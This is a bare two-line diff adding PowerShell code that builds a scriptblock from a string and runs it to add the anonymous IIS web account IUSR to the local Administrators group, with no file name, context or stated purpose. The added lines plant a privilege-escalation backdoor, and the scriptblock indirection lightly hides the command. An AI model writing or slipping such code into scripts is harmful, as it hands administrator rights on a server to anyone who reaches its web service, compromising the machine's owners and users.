@@ -1,0 +1,2 @@
+$b = [scriptblock]::Create('Add-LocalGroupMember -Group Administrators -Member IUSR')
+& $b
